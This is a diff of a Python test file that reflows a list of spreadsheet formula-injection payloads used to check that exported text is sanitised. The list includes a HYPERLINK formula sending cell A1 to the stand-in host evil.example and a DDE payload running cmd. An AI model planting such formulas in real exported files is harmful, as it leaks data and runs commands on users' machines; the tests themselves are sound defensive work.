@@ -17,7 +17,14 @@ from recognition.reissue import AREAS, certificate_number
 
 from .conftest import AS_OF, Service
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1", "\r=1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
